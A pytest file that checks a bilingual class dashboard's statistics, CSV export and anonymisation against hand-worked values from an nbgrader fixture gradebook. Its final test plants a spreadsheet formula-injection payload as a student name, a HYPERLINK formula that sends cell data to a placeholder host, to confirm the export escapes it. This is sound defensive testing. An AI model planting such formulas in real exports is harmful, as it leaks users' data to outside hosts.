"""The class dashboard's numbers (tools/dashboard), checked against values worked out by hand
from the known class pattern of bench/dashboard_fixture.py, on gradebooks built through
nbgrader's API: empty, one trainee, 200 trainees x 9 assignments."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import plotly.graph_objects as go
import pytest
import yaml

from course_instructor.dashboard import build, stats
from course_instructor.dashboard.source import SourceError, load_objectives

REPO = Path(__file__).resolve().parents[1]
import dashboard_fixture as fx  # noqa: E402

N = 200
SUBMITTED = [N - 10 * (j - 1) for j in range(1, 10)]   # 200, 190, … 120


def figures(page: Path) -> dict:
    found = re.search(r'<script type="application/json" id="figures">(.*?)</script>',
                      page.read_text(encoding="utf-8"), re.S)
    return json.loads(found.group(1).replace("<\\/", "</"))


def total(i: int) -> float:
    """By hand: q1 + q3 + q4 = 2 for everyone; + q2 for multiples of 10; + the reflection:
    10 (odd), 4 (even, not a multiple of 4), 0 while still to grade (multiples of 4)."""
    return 2 + (i % 10 == 0) + (10 if i % 2 else 0 if i % 4 == 0 else 4)


@pytest.fixture(scope="module")
def big(tmp_path_factory):
    root = tmp_path_factory.mktemp("course200")
    fx.build(root / "gradebook.db", N)
    fx.objectives_files(root / "data")
    build.build(root, root / "dashboard", root / "data")
    build.build(root, root / "anon", root / "data", anonymise=True)
    return root


def _nbgraders_url(root: Path) -> str:
    """CourseDirectory.db_url after nbgrader loads root/nbgrader_config.py."""
    from nbgrader.coursedir import CourseDirectory
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(root)).load_config()
    return CourseDirectory(config=config).db_url


def test_the_dashboard_reads_the_gradebook_nbgrader_uses(tmp_path, monkeypatch):
    from course_instructor.grading import gradebook

    monkeypatch.delenv("COURSE_GRADEBOOK_URL", raising=False)
    assert build.gradebook_url is gradebook.gradebook_url  # one function, no copy
    root = REPO / "assignments"
    assert gradebook.gradebook_url(root) == _nbgraders_url(root) == \
        f"sqlite:///{root / 'gradebook.db'}"
    course = tmp_path / "assignments"  # a class server's course root: PostgreSQL
    course.mkdir()
    for path in root.glob("*.py"):
        shutil.copy2(path, course / path.name)
    url = "postgresql+psycopg2:///gradebook_c1?host=/var/run/postgresql&port=5433"
    (course / gradebook.URL_FILE).write_text(url + "\n", encoding="utf-8")
    assert gradebook.gradebook_url(course) == _nbgraders_url(course) == url


def test_empty_gradebook_builds_pages_that_say_so(tmp_path):
    fx.build(tmp_path / "gradebook.db", 0, n_assignments=0)
    page = build.build(tmp_path, tmp_path / "out", tmp_path / "no-data")
    text = page.read_text(encoding="utf-8")
    assert text.count('<p class="reading">Одоогоор мэдээлэл алга.</p>') == 6
    assert "No data yet." in (tmp_path / "out" / "en.html").read_text(encoding="utf-8")
    figs = figures(page)
    assert figs["completion"]["data"][0]["y"] == [] and figs["scores"]["data"] == []
    assert (tmp_path / "out" / "trainees.csv").read_text().strip() == "student_id,name"


def test_one_trainee_without_objectives_file(tmp_path):
    fx.build(tmp_path / "gradebook.db", 1, n_assignments=1)
    page = build.build(tmp_path, tmp_path / "out", tmp_path / "no-data")  # no objectives
    figs = figures(page)
    assert figs["completion"]["data"][0]["y"] == [1]
    assert figs["scores"]["data"][0]["y"] == [12.0]              # 1 + 0 + 1 + 0 + 10
    assert figs["items"]["data"][0]["x"] == [1.0, 0.0, 1.0, 0.0]
    assert figs["items"]["data"][0]["y"] == [None] * 4           # no groups from one trainee
    assert figs["pending"]["data"][0]["y"] == [0]
    assert figs["reflection_scores"]["data"][0]["y"] == [10.0]
    assert figs["objectives"]["data"][0]["x"] == []
    text = page.read_text(encoding="utf-8")
    assert "зорилт холбоогүй" in text and 'class="flag"></td>' in text  # n=1 < MIN_N: no flag
    assert "Бүх эргэцүүллийг үнэлсэн." in text
    rows = list(csv.reader((tmp_path / "out" / "trainees.csv").open(encoding="utf-8")))
    assert rows == [["student_id", "name", "m01_submitted", "m01_of", "m01_score", "m01_max"],
                    ["s001", "Бат Дорж1", "1", "1", "12", "14"]]


def test_assignments_figures_by_hand(big):
    figs = figures(big / "dashboard" / "index.html")
    names = [fx.assignment(j) for j in range(1, 10)]
    assert figs["completion"]["data"][0] == {**figs["completion"]["data"][0], "x": names,
                                             "y": SUBMITTED}
    for j, box in enumerate(figs["scores"]["data"], 1):
        assert box["name"] == fx.assignment(j)
        assert box["y"] == sorted(total(i) for i in range(1, SUBMITTED[j - 1] + 1))
    assert figs["pending"]["data"][0]["y"] == [n // 4 for n in SUBMITTED]
    for j, box in enumerate(figs["reflection_scores"]["data"], 1):
        n = SUBMITTED[j - 1]
        assert box["y"] == [4.0] * (n // 2 - n // 4) + [10.0] * (n // 2)


def test_items_by_hand(big):
    figs = figures(big / "dashboard" / "index.html")
    scatter = figs["items"]["data"][0]
    assert scatter["text"] == [f"a{j:02d}-{q}-test" for j in range(1, 10) for q in fx.ITEMS]
    assert scatter["x"] == [1.0, 0.1, 0.5, 0.5] * 9
    # discrimination: upper 27 % are odd trainees (total 12), lower 27 % even ones; a01 has
    # 200 -> groups of 54, the lower holding the 10 multiples of 20 (q2 right); a09 has 120 ->
    # groups of 32 holding 6 multiples of 20
    d = scatter["y"]
    assert d[0:4] == [0.0, pytest.approx(-10 / 54), 1.0, -1.0]
    assert d[32:36] == [0.0, pytest.approx(-6 / 32), 1.0, -1.0]
    items = stats.item_stats(fx_gradebook(big), load_objectives(big / "data")[1])
    assert [i["flags"] for i in items[:4]] == [["easy"], ["hard", "negative"], [], ["negative"]]
    assert [i["n"] for i in items[::4]] == SUBMITTED
    assert [i["right"] for i in items[1::4]] == [n // 10 for n in SUBMITTED]
    text = (big / "dashboard" / "en.html").read_text(encoding="utf-8")
    assert "Hardest item a01-q2-test: 20 of 200 fully right. Revisit: m01.o1 Objective 1.1." \
        in text
    assert "Fewest submissions: a09_topic, 120 of 200 trainees." in text


def fx_gradebook(root: Path):
    from course_instructor.dashboard.source import read_gradebook
    return read_gradebook(f"sqlite:///{root / 'gradebook.db'}")


def test_objectives_least_right_by_hand(big):
    figs = figures(big / "dashboard" / "index.html")
    bars = figs["objectives"]["data"][0]
    # o1 pools q1 (all right) and q2 (1 in 10): 0.55; o2 pools q3 and q4 (half each): 0.5;
    # a09 is not linked, so module 09 has no objective row
    assert bars["x"] == [0.5, 0.55] * 8
    assert bars["y"][:2] == ["m01 · m01.o2 Зорилт 1.2", "m01 · m01.o1 Зорилт 1.1"]
    assert "Хамгийн сул нь m01.o2 Зорилт 1.2: 50% нь бүрэн зөв." in \
        (big / "dashboard" / "index.html").read_text(encoding="utf-8")


def test_trainee_table_and_csv_by_hand(big):
    table = {r["student"]: r for r in stats.trainee_table(fx_gradebook(big))}
    assert table["s001"]["total"] == 9 * 12
    assert table["s121"]["total"] == 8 * 12 and table["s121"]["scores"]["a09_topic"] is None
    assert table["s200"]["total"] == 3 and list(table["s200"]["scores"].values())[1:] == [None] * 8
    rows = {r["student_id"]: r for r in csv.DictReader(
        (big / "dashboard" / "trainees.csv").open(encoding="utf-8"))}
    assert len(rows) == N
    assert (rows["s200"]["name"], rows["s200"]["m01_score"], rows["s200"]["m01_max"]) == \
        ("Бат Дорж200", "3", "14")
    assert (rows["s200"]["m02_submitted"], rows["s200"]["m02_score"]) == ("0", "0")
    assert rows["s001"]["m09_submitted"] == "1" and rows["s001"]["m09_score"] == "12"


def test_anonymised_variant_names_nobody(big):
    out = big / "anon"
    for path in (out / "index.html", out / "en.html", out / "trainees.csv"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"s\d{3}|Дорж", text), path.name
    rows = list(csv.reader((out / "trainees.csv").open(encoding="utf-8")))
    assert rows[0][:2] == ["student_id", "m01_submitted"] and rows[1][0] == "T001"
    assert figures(out / "index.html")["completion"] == \
        figures(big / "dashboard" / "index.html")["completion"]


def test_every_figure_is_valid_plotly(big):
    for spec in figures(big / "dashboard" / "index.html").values():
        go.Figure(spec)  # raises on any property plotly does not know


def test_plotly_js_ships_once_beside_the_pages(big):
    out = big / "dashboard"
    for name in ("index.html", "en.html"):
        text = (out / name).read_text(encoding="utf-8")
        assert '<script src="plotly.min.js"></script>' in text and "cdn" not in text.lower()
    assert (out / "plotly.min.js").stat().st_size > 1_000_000


def test_strings_have_mongolian_and_english_with_the_same_fields():
    path = REPO / "course_instructor" / "dashboard" / "strings.yaml"
    strings = yaml.safe_load(path.read_text("utf-8"))
    for key, entry in strings.items():
        assert entry["mn"].strip() and entry["en"].strip(), key
        assert set(re.findall(r"{(\w+)}", entry["mn"])) == \
            set(re.findall(r"{(\w+)}", entry["en"])), key


def test_missing_gradebook_is_a_message_not_a_traceback(tmp_path):
    done = subprocess.run([str(Path(sys.executable).parent / "course-instructor"), "dashboard",
                           "--root", str(tmp_path)], capture_output=True, text=True)
    assert done.returncode == 1
    assert "Үнэлгээний сан олдсонгүй" in done.stderr and "No gradebook" in done.stderr
    assert "Traceback" not in done.stderr
    with pytest.raises(SourceError):
        load_objectives_broken(tmp_path)


def load_objectives_broken(tmp_path: Path):
    (tmp_path / "objectives.yaml").write_text("objectives: [unclosed", encoding="utf-8")
    return load_objectives(tmp_path)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_never_starts_a_formula_with_a_name(tmp_path, start):
    """A name a spreadsheet would run ('=HYPERLINK(...)', '@SUM(...)') is written as text."""
    from nbgrader.api import Gradebook

    fx.build(tmp_path / "gradebook.db", 1, n_assignments=1)
    name = start + 'HYPERLINK("https://x.example/?"&A1,"Бат")'
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gb:
        gb.update_or_create_student("s001", first_name=name, last_name="")
    build.build(tmp_path, tmp_path / "out", tmp_path / "no-data")
    rows = list(csv.reader((tmp_path / "out" / "trainees.csv").open(encoding="utf-8",
                                                                     newline="")))
    cell = rows[1][1]
    assert cell.startswith("'") and cell[1:].strip() == name.strip(), cell
    assert rows[1][2:] == ["1", "1", "12", "14"]  # the numbers stay numbers
